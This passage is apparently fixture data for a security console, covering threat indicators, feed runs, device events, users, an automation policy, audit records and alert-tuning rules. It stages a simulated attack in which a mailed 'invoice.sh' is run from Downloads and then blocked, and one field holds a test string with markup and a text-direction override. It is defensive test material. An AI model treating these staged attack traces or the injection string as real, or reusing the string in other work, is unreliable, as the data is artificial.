  { id: id(7, 5), spec: { kind: 'certificateSha256', value: sha('certificate'), action: 'block', severity: 'medium', note: 'stolen signing key', expires_at: null }, created_by: 'admin', created_at: at(86_400), incident_id: null, import_id: null, list_version: null, hits: 0, last_hit: null, version: 1 },
];

export const effects: IndicatorEffect[] = [
  { place: 'sensor', enforced: true, text: text('Sensors refuse to run the file.', 'センサーがファイルの実行を拒否します。') },
  { place: 'gateway', enforced: true, text: text('The mail is stopped.', 'メールを停止します。') },
  { place: 'alert', enforced: true, text: text('An alert is raised where it is seen.', '確認された場合にアラートを作成します。') },
];
export const why: IndicatorWhy = {
  value: 'pay.supplier-invoices.example', decided_by: id(7, 1), precedence: text('Allow beats block and remediate beats block beats warn beats audit; among equals the most exact value decides. What has ended decides nothing.', '許可、ブロックと修復、ブロック、警告、監査の順に優先し、同じ操作では最も具体的な値が優先します。有効期限が切れたものは適用されません。'),
  considered: [
    { id: id(7, 1), kind: 'domain', value: 'supplier-invoices.example', action: 'audit', reason: text('It decides: the strongest action, and among equals the most exact value.', 'これが適用されます。最も優先される操作で、同じ操作では最も具体的な値が優先します。'), enforced_by: ['alert'], expires_at: at(-80 * 86_400), ended: false, scope: { device_tags: [], mail_domains: ['sales.example.jp'] },
      effects: [{ place: 'sensor', enforced: false, text: text('Nothing is stopped.', '何も停止しません。') }, { place: 'gateway', enforced: false, text: text('Nothing is stopped.', '何も停止しません。') }, effects[2]!] },
    { id: id(7, 9), kind: 'domain', value: 'pay.supplier-invoices.example', action: 'block', reason: text('It has ended.', '有効期限が切れています。'), enforced_by: [], effects, expires_at: at(86_400), ended: true, scope: { device_tags: [], mail_domains: [] } },
  ],
};
export const reach: IndicatorReach = {
  list_version: 4, in_force: 2, not_yet: 1, cannot: 1, out_of_scope: 3, effects,
  devices: [
    { id: id(1, 3), name: 'SRV-FILE01', state: 'cannot', online: true, has: 4, reason: text('Prevention does not work there: fanotify is not available', '実行の阻止が機能していません: fanotify is not available') },
    { id: id(1, 4), name: 'PC-SUZUKI', state: 'notYet', online: false, has: 2, reason: null },
    { id: PC.id, name: PC.name, state: 'inForce', online: true, has: 4, reason: null },
  ],
};
export const looks: IndicatorLook[] = [
  { id: id(7, 20), by: 'admin', at: at(60), state: 'done', indicators: [id(7, 3)], import_id: null, from: at(31 * 86_400), to: at(60), days_done: 30, days: 30, events: 1_240_551, messages: 18_204, truncated: false, counts: true, found_count: 1, finished_at: at(40), reason: null,
    found: [{ id: id(7, 3), kind: 'fileSha256', value: SHA.stage2, action: 'blockAndRemediate', hits: 3, first_seen: at(BEGIN + 60), last_seen: at(BEGIN), devices: [PC.id], device_count: 1, mailboxes: [], mailbox_count: 0, incidents: [id(1, 1)], actions: [id(6, 1)], not_ordered: [text('mailboxes is not configured', 'mailboxes が設定されていません')] }] },
  { id: id(7, 21), by: 'feed:isac', at: at(7_200), state: 'running', indicators: [], import_id: id(11, 1), from: at(31 * 86_400), to: at(7_200), days_done: 12, days: 30, events: 402_118, messages: 5_120, truncated: false, counts: true, found: [], found_count: 0, finished_at: null, reason: null },
];
const run = (number: number, more: Partial<FeedRun>): FeedRun => ({ id: id(7, 30 + number), feed: 'isac', by: 'schedule', at: at(number * 3_600), dry_run: false, state: 'done', finished_at: at(number * 3_600 - 4), requests: 5, bytes: 48_212, more: false, added: 14, changed: 3, unchanged: 2, removed: 1, refused_count: 1, refused: [{ place: 'indicator--0001', value: "[ipv4-addr:value = '10.0.0.1' AND domain-name:value = 'a.example']", reason: text('its pattern needs several values together; each alone would say too much', '複数の値の組み合わせを必要とするパターンです') }], import_id: null, reason: null, ...more });
export const feedRuns: FeedRun[] = [run(1, {}), run(2, { state: 'unchanged', added: 0, changed: 0, unchanged: 0, refused_count: 0, refused: [] })];
export const feedTest = run(0, { by: 'admin', dry_run: true, added: 6, id: id(7, 39) });
export const feeds: IndicatorFeed[] = [
  { name: 'isac', kind: 'taxii', url: 'https://taxii.isac.example/taxii2/', every_minutes: 60, action: 'audit', severity: 'medium', expires_days: 30, scope: { device_tags: [], mail_domains: [] }, next_at: at(-1_800), failing_since: null, last_run: feedRuns[0]! },
  { name: 'partner', kind: 'mispFeed', url: 'https://misp.partner.example/feed/', every_minutes: 360, action: 'block', severity: 'high', expires_days: 14, scope: { device_tags: ['servers'], mail_domains: [] }, next_at: at(-900), failing_since: at(9_000),
    last_run: run(3, { feed: 'partner', state: 'failed', added: 0, changed: 0, unchanged: 0, refused_count: 0, refused: [], reason: text('read manifest.json: the feed answers 503 Service Unavailable', '取得できませんでした: read manifest.json: the feed answers 503 Service Unavailable') }) },
];

export const events: EventRow[] = [];
for (let n = 0; n < 640; n += 1) {
  const own = ['tanaka', 'root'][n % 2]!;
  const base = { Timestamp: at(20 + n * 6), DeviceId: PC.id, DeviceName: PC.name, ReportId: 9000 - n, InitiatingProcessFileName: n % 2 ? 'systemd' : 'bash', InitiatingProcessAccountName: own };
  events.push(
    [
      { Table: 'DeviceProcessEvents' as const, ActionType: 'ProcessCreated', FileName: 'ls', FolderPath: '/usr/bin/ls', ProcessCommandLine: `ls -la /var/log/journal/${n}`, AccountName: own, SHA256: sha('ls'), ProcessId: 5000 + n },
      { Table: 'DeviceFileEvents' as const, ActionType: 'FileModified', FileName: `cache-${n}.db`, FolderPath: `/home/tanaka/.cache/mozilla/cache-${n}.db` },
      { Table: 'DeviceNetworkEvents' as const, ActionType: 'ConnectionRequest', RemoteIP: `198.51.100.${n % 250}`, RemotePort: 443, Protocol: 'Tcp' },
      { Table: 'DeviceNetworkEvents' as const, ActionType: 'DnsConnectionInspected', RemoteUrl: `host${n}.example.org` },
    ].map((more) => ({ ...base, ...more }) as EventRow)[n % 4]!,
  );
}
events.unshift({ Table: 'DeviceEvents', ActionType: 'ExecBlocked', Timestamp: at(15), DeviceId: PC.id, DeviceName: PC.name, ReportId: 9500, FileName: 'invoice.sh', FolderPath: '/home/tanaka/Downloads/invoice.sh', SHA256: SHA.script, InitiatingProcessFileName: 'bash', InitiatingProcessAccountName: 'tanaka' } as EventRow);

// how the attachment came onto the device
for (const [seconds, more] of [
  [BEGIN - 62, { Table: 'DeviceFileEvents', ActionType: 'FileCreated', InitiatingProcessFileName: 'thunderbird' }],
  [BEGIN - 70, { Table: 'DeviceProcessEvents', ActionType: 'ProcessCreated', ProcessCommandLine: '/bin/sh /home/tanaka/Downloads/invoice.sh', InitiatingProcessFileName: 'bash' }],
] as const) {
  events.push({ ...more, Timestamp: at(seconds), DeviceId: PC.id, DeviceName: PC.name, ReportId: 9600 + seconds, FileName: 'invoice.sh', FolderPath: '/home/tanaka/Downloads/invoice.sh', SHA256: SHA.script, InitiatingProcessAccountName: 'tanaka' } as EventRow);
}
events.sort((a, b) => b.Timestamp.localeCompare(a.Timestamp));

export const users: User[] = [
  { id: id(8, 1), name: 'admin', mail: 'admin@hinomi.example', role: 'administrator', language: 'en', totp: true, passkeys: ['Laptop'], disabled: false, created_at: at(86_400 * 30), last_login: at(600), version: 1 },
  { id: id(8, 2), name: 'sato', mail: 'sato@hinomi.example', role: 'responder', language: 'ja', totp: false, passkeys: [], disabled: false, created_at: at(86_400 * 20), last_login: at(86_000), version: 1 },
  { id: id(8, 3), name: 'viewer', mail: null, role: 'viewer', language: 'ja', totp: false, passkeys: [], disabled: false, created_at: at(86_400 * 3), last_login: null, version: 1 },
];
export const sessions: SessionInfo[] = [
  { id: id(9, 1), created_at: at(600), last_used: at(1), expires_at: at(-40_000), address: '10.20.0.5', user_agent: 'Chromium 156 on Linux', current: true },
  { id: id(9, 2), created_at: at(9_000), last_used: at(5_000), expires_at: at(-30_000), address: '10.20.0.8', user_agent: 'Firefox 145 on Windows', current: false },
];
export const notifications: Notification[] = [
  { id: id(15, 1), channel: 'night desk', rule: 'high', kind: 'alert', severity: 'high', incident: 1042, subject: id(2, 1), state: 'sent', created_at: at(300), attempts: 1, tried_at: at(299), digest: null, answer: '250 2.0.0 Ok: queued as 4F1C2' },
  { id: id(15, 2), channel: 'chat', rule: 'high', kind: 'escalation', severity: 'high', incident: 1042, subject: id(2, 1), state: 'failed', created_at: at(200), attempts: 3, tried_at: at(90), digest: null, answer: 'hooks.chat.example answers 404 Not Found: no_team <b>\u202e' },
  { id: id(15, 3), channel: 'night desk', rule: 'later', kind: 'alert', severity: 'low', incident: 1041, subject: id(2, 2), state: 'held', created_at: at(4_000), attempts: 0, tried_at: null, digest: null, answer: '' },
];
export const channels: NotificationChannel[] = [
  { name: 'night desk', kind: 'mail', place: 'night@hinomi.example', language: 'ja', names: true, rules: ['high', 'later'], last: notifications[0]! },
  { name: 'chat', kind: 'slack', place: 'hooks.chat.example', language: 'en', names: false, rules: ['high'], last: notifications[1]! },
  { name: 'siem', kind: 'syslog_cef', place: 'tls://siem.hinomi.example:6514', language: 'en', names: true, rules: ['everything'], last: null },
];
export const tokens: ApiToken[] = [{ id: id(10, 1), name: 'nightly report', role: 'viewer', created_by: 'admin', created_at: at(86_400), expires_at: at(-86_400 * 89), last_used: at(3_000) }];
export const enrolment: EnrolmentTokenInfo[] = [
  { id: id(11, 1), note: '田中さんの PC', created_by: 'admin', created_at: at(86_400 * 20), expires_at: at(86_400 * 19), used_by: PC.id },
  { id: id(11, 2), note: 'spare', created_by: 'admin', created_at: at(86_400 * 5), expires_at: at(86_400 * 4), used_by: null },
];
const OFFICE_NIGHT = { days: ['mon', 'tue', 'wed', 'thu', 'fri'] as const, from: '19:00', to: '08:00' };
export const policy: AutomationPolicy = {
  time_zone: 'Asia/Tokyo',
  groups: [{
    name: 'Offices', device_tags: ['office', 'sales'],
    rules: { level: null, unanswered: { then: 'escalate', minutes: 60 }, hours: [{ ...OFFICE_NIGHT, days: [...OFFICE_NIGHT.days], level: 'full', unanswered: { then: 'run', minutes: 15 } }] },
  }],
  devices: { level: null, unanswered: { then: 'wait', minutes: 0 }, hours: [] }, mail: { level: 'semiAll', unanswered: { then: 'escalate', minutes: 120 }, hours: [] },
  guards: { processes: ['postgres', '/opt/erp/bin/erpd'], devices: ['dc-1'], device_tags: ['core'], mailboxes: ['ceo@hinomi.example'], copies_max: 100, devices_max: 10 },
  two_persons: ['isolate_device', 'hard_delete_messages'], expiry_hours: 168, notice_hours: 24, changed_by: 'sato', changed_at: at(2 * 86_400), version: 3,
};
/** What a level would have done: with full automation all but what is not sure runs. */
export function preview(level: AutomationLevel, of: Action[]): AutomationPreview {
  const kinds = [...new Set(of.map((action) => action.spec.kind))].sort();
  const runs = (action: Action) => level === 'full' && action.spec.kind !== 'isolate_device';
  const items = of.map((action) => ({
    action, outcome: runs(action) ? ('ran' as const) : ('escalated' as const), at: action.created_at,
    reason: runs(action) ? text('Ran without a person: level full (device group Offices, 19:00-08:00).', '自動で実行: レベル「完全自動」 (デバイス グループ Offices、19:00〜08:00)。') : text('Waits for a person: two persons must approve this kind; level full (devices). Nobody answered within 60 minutes.', '承認待ち: この種類の対処には 2 人の承認が必要です。レベル「完全自動」 (デバイス)。60 分以内に誰も回答しませんでした。'),
  }));
  const count = (kind: string, outcome: string) => items.filter((item) => item.action.spec.kind === kind && item.outcome === outcome).length;
  return {
    from: at(30 * 86_400), until: at(0), actions: items.length, cut: false, items,
    counts: kinds.map((kind) => ({ kind, ran: count(kind, 'ran'), answered: 0, waited: 0, ran_unanswered: 0, expired: 0, escalated: count(kind, 'escalated') })),
  };
}
export const settings: Settings = { automation_level: 'semiAll', language: 'en', version: 1, server: { version: '0.1.0', public_url: 'https://hinomi.example:8443', sensor_url: 'https://hinomi.example:8444', store: 'sqlite', mailboxes: true, notify: true, own_domains: ['hinomi.example'] } };
export const audit: AuditRecord[] = Array.from({ length: 60 }, (_, n) => ({
  seq: 60 - n, at: at(300 + n * 700), actor: ['admin', 'sato', 'investigation:17', 'token:nightly report'][n % 4]!, action: ['auth.login', 'incident.update', 'action.propose', 'incident.read'][n % 4]!, target: n % 2 ? 'incident:1042' : 'user:admin', detail: '{"status":{"from":"active","to":"inProgress"}}', address: n % 4 === 2 ? '' : '10.20.0.5',
  result: n % 17 === 5 ? 'wrong password' : 'ok', previous_hash: sha(`h${59 - n}`), hash: sha(`h${60 - n}`),
}));
export const crawl: CrawlStatus = {
  enabled: true, mailboxes: 12, finished: 10, running: 1, failed: 1, mails: 8_412, skipped: 3,
  items: recipients.map((mailbox, index) => ({
    mailbox, state: index === 4 ? 'failed' : index === 7 ? 'running' : 'done', mails: 600 + index * 37, skipped: index === 2 ? 3 : 0, started_at: at(1_800 - index), next_at: at(-1_800 - index),
    finished_at: index === 7 ? null : at(1_700 - index), error: index === 4 ? 'LOGIN failed: user is over quota' : null,
  })),
};

export const tuningDraft: NewTuningRule = {
  title: 'Script started from a mail attachment: invoice.sh', action: 'hide', severity: null, enabled: true, expires_at: at(-90 * 86_400), owner: null, comment: '',
  conditions: [
    { field: 'rule', operator: 'equals', values: ['hinomi-linux-101'] },
    { field: 'fileSha256', operator: 'equals', values: [SHA.script] },
    { field: 'commandLine', operator: 'wildcard', values: ['/bin/sh /home/tanaka/Downloads/invoice-*.sh'] },
    { field: 'parentPath', operator: 'equals', values: ['/usr/bin/thunderbird'] },
  ],
};
export const tuningRules: TuningRule[] = [
  { id: id(14, 2), title: 'Nightly backup', action: 'hide', severity: null, enabled: true, expires_at: at(-40 * 86_400), owner: 'sato', comment: 'Reviewed with the storage team.', created_at: at(86_400 * 9), changed_by: 'sato', changed_at: at(86_400 * 9), hits: 214, last_hit: at(3_600 * 7), version: 1,
    conditions: [{ field: 'rule', operator: 'equals', values: ['hinomi-linux-106'] }, { field: 'filePath', operator: 'equals', values: ['/opt/backup/run.sh'] }, { field: 'deviceTag', operator: 'equals', values: ['server', 'storage'] }] },
  { id: id(14, 1), title: '社内スキャナーの接続', action: 'lowerSeverity', severity: 'informational', enabled: false, expires_at: null, owner: 'admin', comment: '', created_at: at(86_400 * 30), changed_by: 'admin', changed_at: at(86_400 * 2), hits: 3, last_hit: at(86_400 * 4), version: 2,
    conditions: [{ field: 'address', operator: 'cidr', values: ['10.20.0.0/16'] }, { field: 'fileName', operator: 'startsWith', values: ['nessus'] }] },
];
export const tuningPreview: TuningPreview = {
  days: 30, looked_at: 412, complete: true, matches: 14, high: 2, true_positives: 1, malicious: 1, devices: 3, spared: 0,
  alerts: alerts.slice(0, 3).map((alert, index) => ({ ...alert, classification: index === 0 ? 'truePositive' : 'unknown' }) as TuningPreview['alerts'][number]),
  warnings: [text('It would have hidden 1 of the alerts that turned out to be real attacks.', '本物の攻撃と分類されたアラート 1 件が非表示になっていたはずです。'), text('It would have hidden 2 of the alerts of severity high.', '重大度が高のアラート 2 件が非表示になっていたはずです。')],
};
export const ruleQuality: RuleQuality[] = alerts.slice(0, 6).map((alert, index) => {
  const [alertsMade, tuned, real, expected, wrong] = [[131, 96, 1, 4, 22], [44, 0, 12, 0, 2], [31, 0, 9, 3, 0], [18, 0, 0, 0, 0], [9, 2, 1, 1, 1], [4, 0, 4, 0, 0]][index] as [number, number, number, number, number];
  const classified = real + expected + wrong;
  return { rule_id: alert.rule_id, title: alert.title, alerts: alertsMade, tuned, true_positive: real, expected, false_positive: wrong, unclassified: alertsMade - tuned - classified, false_positive_share: classified ? wrong / classified : null, last_alert: alert.created_at };
});
